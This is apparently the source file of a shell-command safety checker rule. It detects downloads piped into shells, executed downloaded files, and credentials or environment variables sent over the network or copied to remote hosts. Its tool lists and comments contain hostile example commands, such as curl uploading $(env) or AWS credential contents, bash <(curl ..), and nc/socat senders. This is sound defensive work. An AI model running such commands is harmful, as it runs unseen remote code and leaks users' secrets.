// Remote code and exfiltration: downloads run as code, and secrets or the environment sent over the network.
import type { Invocation, Word } from "../../types.js";
import { SHELLS } from "../../parse/nested.js";
import { interpreterCodeArg, langOf } from "../../parse/interpreters.js";
import { parseArgs } from "../flags.js";
import { defineRule, type RuleContext } from "../rule.js";
import { CREDENTIAL_PRINTERS, secretFilesFromEnv, secretPath, type SecretMatch } from "../secrets.js";

type Id = "pipe-to-shell" | "exec-download" | "exfiltrate-secret" | "exfiltrate-env" | "copy-secret" | "dynamic-upload";
type Ctx = RuleContext<Id>;

/** Programs whose output is data fetched from the network. */
const FETCHERS = new Set([
  "curl", "wget", "wget2", "fetch", "http", "https", "xh", "xhs", "curlie", "aria2c", "lwp-request", "GET", "lynx", "links", "w3m",
  "nc", "ncat", "netcat", "socat", "telnet",
]);

/** Programs that send what they are given to a network endpoint anyone may own. */
const SENDERS = new Set(["curl", "wget", "wget2", "http", "https", "xh", "xhs", "curlie", "nc", "ncat", "netcat", "socat", "telnet", "openssl", "mail", "mailx", "sendmail", "mutt", "msmtp"]);

/** Programs that copy to a named host or bucket (usually the user's own): a leak is likelier a mistake than an attack. */
const COPIERS = new Set(["scp", "rsync", "sftp", "ssh", "aws", "gsutil", "gcloud", "rclone", "az"]);

/** Programs whose output is the content of the files they are given. */
const CONTENT_READERS = new Set([
  "cat", "tac", "head", "tail", "less", "more", "base64", "base32", "basenc", "xxd", "od", "hexdump", "strings", "tar", "zip", "gzip", "bzip2", "xz", "zstd",
  "cpio", "7z", "gpg", "openssl", "sed", "awk", "gawk", "grep", "egrep", "rg", "cut", "sort", "uniq", "tr", "jq", "yq", "dd", "pv", "nl", "fold", "paste",
  "column", "iconv", "uuencode", "tee", "cp", "zcat", "bat",
]);

const ENV_PRINTERS = new Set(["env", "printenv"]);
/** Builtins that print every variable when given no operands. */
const ENV_BUILTINS = new Set(["set", "export", "declare", "typeset"]);

const CURL_VALUE = [
  "A", "b", "c", "C", "d", "D", "e", "E", "F", "H", "K", "m", "o", "P", "Q", "r", "T", "t", "u", "U", "w", "x", "X", "Y", "y", "z",
  "data", "data-ascii", "data-binary", "data-raw", "data-urlencode", "json", "form", "form-string", "upload-file", "output", "output-dir", "header",
  "user", "user-agent", "request", "url", "config", "cookie", "cookie-jar", "referer", "cert", "key", "cacert", "capath", "proxy", "max-time",
  "connect-timeout", "retry", "retry-delay", "retry-max-time", "write-out", "range", "resolve", "connect-to", "interface", "dns-servers",
  "limit-rate", "max-filesize", "oauth2-bearer", "proxy-user", "netrc-file", "trace", "trace-ascii", "stderr", "dump-header", "continue-at",
  "variable", "cert-type", "key-type", "pass", "ciphers", "aws-sigv4", "unix-socket", "abstract-unix-socket", "expect100-timeout", "quote",
];
const WGET_VALUE = ["O", "o", "a", "P", "t", "T", "w", "U", "e", "i", "B", "Q", "l", "A", "R", "D", "X", "I", "output-document", "directory-prefix", "post-file", "body-file", "post-data", "body-data", "method", "header", "user", "password", "user-agent"];

const v = (w: Word | undefined) => w?.value;

/** Per-check index: invocations by index, and those that run inside `$(..)` or `<(..)`. */
function index(ctx: Ctx): { byIndex: Map<number, Invocation>; subs: Invocation[] } {
  return ctx.memo("remote/index", () => ({
    byIndex: new Map(ctx.invocations.map((i) => [i.index, i])),
    subs: ctx.invocations.filter((i) => i.via.includes("substitution") || i.via.includes("process-substitution")),
  }));
}

/** Words of an invocation that the shell expands: its arguments and its redirect targets. */
function wordsOf(inv: Invocation): Word[] {
  const out = inv.argv.slice(1);
  for (const r of inv.redirects) if (r.target) out.push(r.target);
  return out;
}

/** Invocations running inside a substitution written in one of `words`. */
function substitutionsIn(words: Word[], ctx: Ctx): Invocation[] {
  const dyn = words.filter((w) => w.value === undefined);
  if (!dyn.length) return [];
  return index(ctx).subs.filter((s) => dyn.some((w) => s.span.start >= w.span.start && s.span.end <= w.span.end));
}

function isFetcher(inv: Invocation): boolean {
  const p = inv.program;
  if (!p) return false;
  if (FETCHERS.has(p)) return true;
  const a = inv.argv.map((w) => w.value);
  // Object stores read to stdout: `aws s3 cp s3://b/x -`, `gsutil cat`, `gcloud storage cat`.
  if (p === "aws") return a.includes("s3") && (a.includes("cp") || a.includes("mv")) && a.includes("-");
  if (p === "gsutil") return a.includes("cat") || ((a.includes("cp") || a.includes("mv")) && a.includes("-"));
  if (p === "gcloud") return a.includes("storage") && a.includes("cat");
  return false;
}

/** The fetcher whose output reaches `inv` through pipes or substitutions in upstream commands. */
function fetcherUpstream(inv: Invocation, ctx: Ctx): Invocation | undefined {
  const { byIndex } = index(ctx);
  const seen = new Set<number>();
  let cur = inv.stdin?.kind === "command" ? byIndex.get(inv.stdin.index) : undefined;
  while (cur && !seen.has(cur.index)) {
    seen.add(cur.index);
    if (isFetcher(cur)) return cur;
    const inner = substitutionsIn(wordsOf(cur), ctx).find(isFetcher);
    if (inner) return inner;
    cur = cur.stdin?.kind === "command" ? byIndex.get(cur.stdin.index) : undefined;
  }
  return undefined;
}

/** How a shell, eval, source or interpreter gets its code: from stdin, or from these words (code or script file). */
function codeSource(inv: Invocation): { stdin: boolean; words: Word[] } | undefined {
  const p = inv.program;
  if (!p) return undefined;
  const args = inv.argv.slice(1);
  if (SHELLS.has(p)) {
    let c = false;
    let s = false;
    let i = 0;
    for (; i < args.length; i++) {
      const a = v(args[i]);
      if (a === undefined) break;
      if (a === "--" || a === "-") {
        i++;
        break;
      }
      if (/^[-+][oO]$/.test(a) || a === "--rcfile" || a === "--init-file") {
        i++;
        continue;
      }
      if (a.startsWith("--")) continue;
      if ((a.startsWith("-") || a.startsWith("+")) && a.length > 1) {
        if (a.includes("c")) c = true;
        if (a.includes("s")) s = true;
        continue;
      }
      break;
    }
    const operand = args[i];
    if (c) return { stdin: false, words: operand ? [operand] : [] };
    if (operand && !s) return { stdin: false, words: [operand] };
    return { stdin: true, words: [] };
  }
  if (p === "eval") return { stdin: false, words: args };
  if (p === "source" || p === ".") return { stdin: false, words: args.slice(0, 1) };
  if (langOf(p)) {
    const code = interpreterCodeArg(p, args);
    if (code && "stdin" in code) return { stdin: true, words: [] };
    if (code) return { stdin: false, words: [code.word] };
    // A script file operand (`python3 <(curl ..)`, `node install.js`); python -m names a module instead.
    const first = args.find((w) => w.value === undefined || !w.value.startsWith("-"));
    return { stdin: false, words: first && v(args[args.indexOf(first) - 1]) !== "-m" ? [first] : [] };
  }
  return undefined;
}

/** Files fetchers in this check save to, as absolute paths, with the fetcher. */
function downloads(ctx: Ctx): Map<string, Invocation> {
  return ctx.memo("remote/downloads", () => {
    const out = new Map<string, Invocation>();
    for (const inv of ctx.invocations) {
      const p = inv.program;
      if (p !== "curl" && p !== "wget" && p !== "wget2") continue;
      const add = (name: string | undefined, dir?: string) => {
        if (!name || name === "-") return;
        const abs = ctx.paths.absolute(dir ? `${dir.replace(/\/+$/, "")}/${name}` : name, inv);
        if (abs) out.set(abs, inv);
      };
      const urlBase = (u: string) => u.replace(/[?#].*$/, "").replace(/\/+$/, "").split("/").pop();
      // `curl -s URL > install.sh`: stdout saved by the shell.
      for (const r of inv.redirects) if ((r.op === ">" || r.op === ">>" || r.op === ">|") && (r.fd === undefined || r.fd === 1)) add(r.target?.value);
      if (p === "curl") {
        const a = parseArgs(inv.argv.slice(1), { value: CURL_VALUE });
        const dir = a.get("output-dir");
        for (const o of a.all("o", "output")) add(o, dir);
        if (a.has("O", "remote-name", "remote-name-all")) for (const w of a.positionals) if (w.value?.includes("/")) add(urlBase(w.value), dir);
      } else {
        const a = parseArgs(inv.argv.slice(1), { value: WGET_VALUE });
        const doc = a.get("O", "output-document");
        if (doc !== undefined) add(doc);
        else for (const w of a.positionals) if (w.value?.includes("/")) add(urlBase(w.value) || "index.html", a.get("P", "directory-prefix"));
      }
    }
    return out;
  });
}

function checkRemoteCode(inv: Invocation, ctx: Ctx): void {
  const src = codeSource(inv);
  const downloaded = downloads(ctx);
  const fromDownload = (path: string | undefined) => {
    if (!path) return undefined;
    const abs = ctx.paths.absolute(path, inv);
    const f = abs ? downloaded.get(abs) : undefined;
    return f && f.index < inv.index ? f : undefined;
  };
  if (src?.stdin) {
    const f = fetcherUpstream(inv, ctx);
    if (f) ctx.report("pipe-to-shell", { word: inv.argv[0]!, data: { fetcher: f.program, runner: inv.program } });
    // `sh < <(curl ..)`, `bash <<< "$(curl ..)"`.
    const redirected = inv.redirects.filter((r) => r.op === "<" || r.op === "<<<").map((r) => r.target!).filter(Boolean);
    const inner = substitutionsIn(redirected, ctx).find(isFetcher);
    if (inner) ctx.report("pipe-to-shell", { word: inv.argv[0]!, data: { fetcher: inner.program, runner: inv.program } });
    const file = inv.stdin?.kind === "file" ? fromDownload(inv.stdin.path) : undefined;
    if (file) ctx.report("exec-download", { word: inv.argv[0]!, data: { fetcher: file.program, runner: inv.program, how: "reads the downloaded file as its program" } });
  }
  for (const w of src?.words ?? []) {
    const inner = substitutionsIn([w], ctx).find(isFetcher);
    if (inner) {
      ctx.report("exec-download", { word: w, data: { fetcher: inner.program, runner: inv.program, how: `runs ${w.raw} as code` } });
      continue;
    }
    const file = fromDownload(w.value);
    if (file) ctx.report("exec-download", { word: w, data: { fetcher: file.program, runner: inv.program, how: `runs the downloaded file ${w.raw}` } });
  }
  // `curl -o install.sh ..; chmod +x install.sh; ./install.sh`
  const path = inv.programPath;
  if (path?.includes("/")) {
    const file = fromDownload(path);
    if (file) ctx.report("exec-download", { word: inv.argv[0]!, data: { fetcher: file.program, runner: path, how: "runs the file it just downloaded" } });
  }
}

// ---------------------------------------------------------------- exfiltration

interface Leak {
  secret?: SecretMatch;
  env?: boolean;
}

function secretOf(path: string | undefined, inv: Invocation, ctx: Ctx): SecretMatch | undefined {
  if (!path) return undefined;
  const p = path.startsWith("~/") && ctx.paths.home(inv) ? ctx.paths.home(inv) + path.slice(1) : path;
  const abs = ctx.paths.absolute(p, inv);
  return abs ? secretPath(abs, ctx.paths.home(inv), secretFilesFromEnv(inv.env)) : undefined;
}

/** Whether this invocation's output carries a secret or the environment: its own reads, its substitutions, its piped input. */
function leakFrom(inv: Invocation, ctx: Ctx, seen = new Set<number>()): Leak | undefined {
  if (seen.has(inv.index) || seen.size > 32) return undefined;
  seen.add(inv.index);
  const p = inv.program;
  if (p) {
    const args = inv.argv.slice(1);
    const operands = args.filter((w) => w.value !== undefined && !w.value.startsWith("-"));
    if (ENV_PRINTERS.has(p)) return { env: true };
    if (ENV_BUILTINS.has(p) && !operands.length && args.every((w) => w.value !== undefined && /^-[px]*$/.test(w.value))) return { env: true };
    for (const c of CREDENTIAL_PRINTERS) {
      if (c.program !== p) continue;
      const pos = operands.map((w) => w.value!);
      if (c.args.every((a, i) => pos[i] === a) && (!c.flag || args.some((w) => w.value === c.flag || w.value?.startsWith(c.flag + "=")))) {
        return { secret: { path: `${p} ${c.args.join(" ")}`, what: c.what } };
      }
    }
    if (CONTENT_READERS.has(p)) {
      for (const w of args) {
        const val = w.value;
        if (val === undefined) continue;
        const eq = val.indexOf("=");
        for (const cand of eq >= 0 ? [val, val.slice(eq + 1)] : [val]) {
          if (cand.startsWith("-") && cand !== "-") continue;
          const s = secretOf(cand, inv, ctx);
          if (s) return { secret: s };
        }
      }
    }
  }
  const stdinLeak = leakOnStdin(inv, ctx, seen);
  if (stdinLeak) return stdinLeak;
  for (const s of substitutionsIn(wordsOf(inv), ctx)) {
    const l = leakFrom(s, ctx, seen);
    if (l) return l;
  }
  return undefined;
}

function leakOnStdin(inv: Invocation, ctx: Ctx, seen = new Set<number>()): Leak | undefined {
  const st = inv.stdin;
  if (st?.kind === "file") {
    const s = secretOf(st.path, inv, ctx);
    if (s) return { secret: s };
  }
  if (st?.kind === "command") {
    const up = index(ctx).byIndex.get(st.index);
    if (up) return leakFrom(up, ctx, seen);
  }
  return undefined;
}

/** What a sender uploads: files named in its options (`-` meaning stdin), and whether it sends stdin anyway. */
function uploads(inv: Invocation): { files: { path?: string; word: Word }[]; stdin: boolean } {
  const p = inv.program!;
  const args = inv.argv.slice(1);
  const files: { path?: string; word: Word }[] = [];
  const file = (path: string | undefined, word: Word) => files.push({ ...(path !== undefined ? { path } : {}), word });
  if (p === "curl" || p === "curlie") {
    const a = parseArgs(args, { value: CURL_VALUE });
    for (const o of a.options) {
      const val = o.value;
      const next = o.dynamicValue ? args[args.indexOf(o.word) + 1] : undefined;
      const raw = next?.raw.replace(/^["']/, "") ?? "";
      switch (o.name) {
        case "d": case "data": case "data-ascii": case "data-binary": case "json": case "H": case "header":
          if (val?.startsWith("@")) file(val.slice(1), o.word);
          else if (next && raw.startsWith("@")) file(undefined, next);
          break;
        case "data-urlencode": {
          const m = val !== undefined ? /^([^=@]*)@(.*)$/.exec(val) : undefined;
          if (m) file(m[2], o.word);
          else if (next && /^[^=@]*@/.test(raw)) file(undefined, next);
          break;
        }
        case "F": case "form": {
          const m = val !== undefined ? /^[^=]*=[@<]([^;]*)/.exec(val) : undefined;
          if (m) file(m[1], o.word);
          else if (next && /=[@<]/.test(raw)) file(undefined, next);
          break;
        }
        case "T": case "upload-file":
          file(val === "." ? "-" : val, next ?? o.word);
          break;
        default:
          break;
      }
    }
    return { files, stdin: false };
  }
  if (p === "wget" || p === "wget2") {
    const a = parseArgs(args, { value: WGET_VALUE });
    for (const o of a.options) if (o.name === "post-file" || o.name === "body-file") file(o.value, o.word);
    return { files, stdin: false };
  }
  if (p === "http" || p === "https" || p === "xh" || p === "xhs") {
    const a = parseArgs(args, { value: ["a", "auth", "A", "auth-type", "o", "output", "session", "session-read-only", "cert", "cert-key", "verify", "proxy", "timeout", "pretty", "s", "style", "p", "print", "format-options"] });
    // httpie items: `field=@file`, `field:=@file`, `field@file` (upload), `@file` (raw body).
    for (const w of a.positionals) {
      if (w.value === undefined || w.value.includes("://")) continue;
      const m = /^[^=:@/]*(?:=@|:=@|@)(.+)$/.exec(w.value);
      if (m) file(m[1], w);
    }
    return { files, stdin: !a.has("I", "ignore-stdin") };
  }
  if (p === "socat") {
    for (const w of args) {
      const val = w.value;
      if (val === undefined || val.startsWith("-") && val !== "-") continue;
      if (/^(-|stdin|stdio)$/i.test(val)) file("-", w);
      const m = /^(?:file|open|gopen|create):([^,]+)/i.exec(val) ?? /^(\/[^,]*)/.exec(val);
      if (m) file(m[1], w);
    }
    return { files, stdin: false };
  }
  if (p === "mail" || p === "mailx" || p === "mutt") {
    const a = parseArgs(args, { value: ["a", "A", "s", "c", "b", "r", "S", "F", "i", "q"] });
    for (const o of a.options) if (o.name === "a" || o.name === "A") file(o.value, o.word);
    return { files, stdin: true };
  }
  if (p === "openssl") return { files, stdin: args[0]?.value === "s_client" };
  return { files, stdin: true };
}

/** Local sources of a copy to a remote host or bucket: scp, rsync, cloud copies, ssh and sftp fed on stdin. */
function copySources(inv: Invocation): { files: { path?: string; word: Word }[]; stdin: boolean; dest?: string } {
  const p = inv.program!;
  const args = inv.argv.slice(1);
  const remote = (s: string | undefined) => s !== undefined && (/^[a-z][a-z0-9+.-]*:\/\//i.test(s) || (/^(?:[^@/\s]+@)?[A-Za-z0-9._\[\]-]+:/.test(s) && !/^[A-Za-z]:[\\/]/.test(s)));
  const local = (ws: Word[], dest: Word | undefined) => {
    if (!dest || !remote(dest.value)) return { files: [], stdin: false };
    const files = ws.filter((w) => !remote(w.value)).map((w) => ({ ...(w.value !== undefined ? { path: w.value } : {}), word: w }));
    return { files, stdin: false, ...(dest.value !== undefined ? { dest: dest.value } : {}) };
  };
  if (p === "scp") {
    const a = parseArgs(args, { value: ["c", "D", "F", "i", "J", "l", "o", "P", "S", "X"] });
    const pos = [...a.positionals, ...a.rest];
    return local(pos.slice(0, -1), pos[pos.length - 1]);
  }
  if (p === "rsync") {
    const a = parseArgs(args, {
      value: ["e", "rsh", "f", "filter", "T", "temp-dir", "B", "block-size", "M", "remote-option", "@", "modify-window", "exclude", "include", "exclude-from", "include-from", "files-from", "rsync-path", "backup-dir", "suffix", "chmod", "chown", "password-file", "log-file", "partial-dir", "bwlimit", "timeout", "port", "compare-dest", "copy-dest", "link-dest", "max-size", "min-size", "out-format", "info", "debug", "iconv", "usermap", "groupmap", "sockopts", "address", "contimeout", "max-delete"],
    });
    const pos = [...a.positionals, ...a.rest];
    return local(pos.slice(0, -1), pos[pos.length - 1]);
  }
  if (p === "ssh") {
    const a = parseArgs(args, { value: ["B", "b", "c", "D", "E", "e", "F", "I", "i", "J", "L", "l", "m", "O", "o", "p", "Q", "R", "S", "W", "w"], stopAtPositional: true });
    return { files: [], stdin: !a.has("n", "N", "f"), ...(a.positionals[0]?.value ? { dest: a.positionals[0].value } : {}) };
  }
  if (p === "sftp") {
    const host = args.find((w) => w.value !== undefined && !w.value.startsWith("-"))?.value;
    const st = inv.stdin;
    const files: { path: string; word: Word }[] = [];
    if (st?.kind === "static") for (const m of st.text.matchAll(/^\s*(?:put|reput|mput)\s+(?:-\w+\s+)*(\S+)/gm)) files.push({ path: m[1]!, word: inv.argv[0]! });
    return { files, stdin: false, ...(host ? { dest: host } : {}) };
  }
  // Cloud object copies: `aws s3 cp SRC... s3://b`, `gsutil cp`, `gcloud storage cp`, `rclone copy`, `az storage blob upload`.
  const pos = args.filter((w) => w.value === undefined || !w.value.startsWith("-"));
  const words = pos.map((w) => w.value);
  const after = (...verbs: string[]) => {
    const i = words.findIndex((x) => x !== undefined && verbs.includes(x));
    return i < 0 ? undefined : pos.slice(i + 1);
  };
  const bucket = (re: RegExp, rest: Word[] | undefined) => {
    if (!rest || rest.length < 2) return { files: [], stdin: false };
    const dest = rest[rest.length - 1]!;
    if (!dest.value || !re.test(dest.value)) return { files: [], stdin: false };
    const files = rest.slice(0, -1).filter((w) => !re.test(w.value ?? "")).map((w) => ({ ...(w.value !== undefined ? { path: w.value } : {}), word: w }));
    return { files, stdin: false, dest: dest.value };
  };
  if (p === "aws" && words.includes("s3")) return bucket(/^s3:\/\//, after("cp", "mv", "sync"));
  if (p === "gsutil") return bucket(/^gs:\/\//, after("cp", "mv", "rsync"));
  if (p === "gcloud" && words.includes("storage")) return bucket(/^gs:\/\//, after("cp", "mv", "rsync"));
  if (p === "rclone") {
    const rest = after("copy", "copyto", "sync", "move", "moveto", "rcat");
    if (words.includes("rcat")) return { files: [], stdin: true, ...(rest?.[0]?.value ? { dest: rest[0].value } : {}) };
    return bucket(/^[A-Za-z0-9_-]+:/, rest);
  }
  if (p === "az" && words.includes("upload")) {
    const a = parseArgs(args, { value: ["f", "file", "s", "source", "c", "container-name", "n", "name", "account-name", "d", "destination"] });
    return { files: a.options.filter((o) => ["f", "file", "s", "source"].includes(o.name)).map((o) => ({ ...(o.value !== undefined ? { path: o.value } : {}), word: o.word })), stdin: false, dest: "Azure storage" };
  }
  return { files: [], stdin: false };
}

function destOf(inv: Invocation): string {
  const url = inv.argv.slice(1).find((w) => w.value !== undefined && /^[a-z][a-z0-9+.-]*:\/\//i.test(w.value));
  if (url) return url.value!;
  const host = inv.argv.slice(1).find((w) => w.value !== undefined && !w.value.startsWith("-") && !w.value.startsWith("@"));
  return host?.value ?? inv.program!;
}

function checkExfiltration(inv: Invocation, ctx: Ctx): void {
  const p = inv.program!;
  const copy = COPIERS.has(p);
  const up: { files: { path?: string; word: Word }[]; stdin: boolean; dest?: string } = copy ? copySources(inv) : uploads(inv);
  const dest = up.dest ?? destOf(inv);
  const report = (leak: Leak, word: Word) => {
    if (leak.env) return ctx.report("exfiltrate-env", { word, data: { dest } });
    // A file that may hold no secret (a certificate, a folder around the credentials) asks rather than blocks.
    ctx.report(copy ? "copy-secret" : "exfiltrate-secret", { word, data: { what: leak.secret!.what, dest }, ...(leak.secret!.maybe && !copy ? { risk: "high" as const } : {}) });
  };
  let stdin = up.stdin;
  for (const f of up.files) {
    if (f.path === "-" || f.path === "/dev/stdin") {
      stdin = true;
      continue;
    }
    if (f.path === undefined) {
      // An upload whose file is computed: it may be anything, but uploading build artefacts this way is routine.
      const inner = substitutionsIn([f.word], ctx).map((s) => leakFrom(s, ctx)).find(Boolean);
      if (inner) report(inner, f.word);
      else ctx.report("dynamic-upload", { word: f.word, data: { word: f.word.raw, dest } });
      continue;
    }
    const s = secretOf(f.path, inv, ctx);
    if (s) report({ secret: s }, f.word);
  }
  if (stdin) {
    const l = leakOnStdin(inv, ctx);
    if (l) report(l, inv.argv[0]!);
    const redirected = inv.redirects.filter((r) => r.target && (r.op === "<<<" || r.op === "<")).map((r) => r.target!);
    for (const s of substitutionsIn(redirected, ctx)) {
      const leak = leakFrom(s, ctx);
      if (leak) report(leak, inv.argv[0]!);
    }
  }
  // Secrets spliced into arguments: `curl -d "$(env)" ..`, `curl "https://x/?k=$(cat ~/.aws/credentials)"`.
  if (!copy || p === "ssh") {
    for (const w of inv.argv.slice(1)) {
      if (w.value !== undefined) continue;
      for (const s of substitutionsIn([w], ctx)) {
        const leak = leakFrom(s, ctx);
        if (leak) {
          report(leak, w);
          break;
        }
      }
    }
  }
}

export default defineRule<Id>({
  name: "remote",
  description: "Code downloaded and run in one step, and secrets or the environment sent over the network.",
  programs: ["*"],
  findings: {
    "pipe-to-shell": {
      risk: "high",
      categories: ["remote-code"],
      message: "{runner} runs whatever {fetcher} downloads; the code is never seen before it runs",
      hint: "download to a file, read it (or check its checksum), then run the file",
      description: "A download piped into a shell or interpreter (curl | bash).",
    },
    "exec-download": {
      risk: "high",
      categories: ["remote-code"],
      message: "{runner} {how}: code fetched by {fetcher} runs unseen",
      hint: "download to a file, read it (or check its checksum), then run the file",
      description: "A download run through $(..), <(..) or as a just-saved file (bash <(curl ..), sh -c \"$(curl ..)\", curl -o x && ./x).",
    },
    "exfiltrate-secret": {
      risk: "critical",
      categories: ["exfiltrate"],
      message: "{what} is sent to {dest}; a leaked credential cannot be taken back, only rotated",
      hint: "never send credential files over the network; if a service needs a token, give it one scoped for that service",
      description: "A private key, cloud credentials, tokens or a .env file sent with curl/wget/nc/socat/mail.",
    },
    "exfiltrate-env": {
      risk: "critical",
      categories: ["exfiltrate"],
      message: "the environment, with every token and key in it, is sent to {dest}",
      hint: "send only the variables that are needed, by name",
      description: "env / printenv / set output sent over the network.",
    },
    "copy-secret": {
      risk: "high",
      categories: ["exfiltrate"],
      message: "{what} is copied to {dest}",
      hint: "copy keys only to machines you control, and prefer fresh per-machine keys",
      description: "scp / rsync / sftp / ssh / cloud storage copy of credentials to another host or bucket.",
    },
    "dynamic-upload": {
      risk: "medium",
      categories: ["opaque", "exfiltrate"],
      message: "a file not known before it runs ({word}) is uploaded to {dest}",
      hint: "name the file literally so it can be checked",
      description: "An upload whose file is computed at run time.",
    },
  },
  check(inv, ctx) {
    const p = inv.program;
    if (!p) return;
    checkRemoteCode(inv, ctx);
    if (SENDERS.has(p) || COPIERS.has(p)) checkExfiltration(inv, ctx);
  },
});
